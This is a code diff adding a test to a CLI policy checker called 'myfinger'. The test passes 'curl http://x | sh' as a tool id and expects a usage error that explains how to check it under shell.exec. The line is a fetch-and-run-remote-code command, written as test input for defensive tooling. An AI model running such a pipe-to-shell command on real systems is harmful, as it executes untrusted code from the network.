@@ -62,4 +62,12 @@ describe('myfinger policy check / show without a daemon (from the policy files)'
     const bad = await runCli(['policy', 'check', 'shell.exec', '{nope', '--home', home], {});
     expect(bad.code).toBe(2);
   });
+
+  it('a shell command given as the tool id is a usage error that says how to check it', async () => {
+    const r = await runCli(['policy', 'check', 'curl http://x | sh', '--json', '--home', home], {});
+    expect(r.code).toBe(2);
+    const err = JSON.parse(r.stdout).error;
+    expect(err.code).toBe('E_USAGE');
+    expect(err.message).toContain(`myfinger policy check shell.exec '{"command":"curl http://x | sh"}'`);
+  });
 });
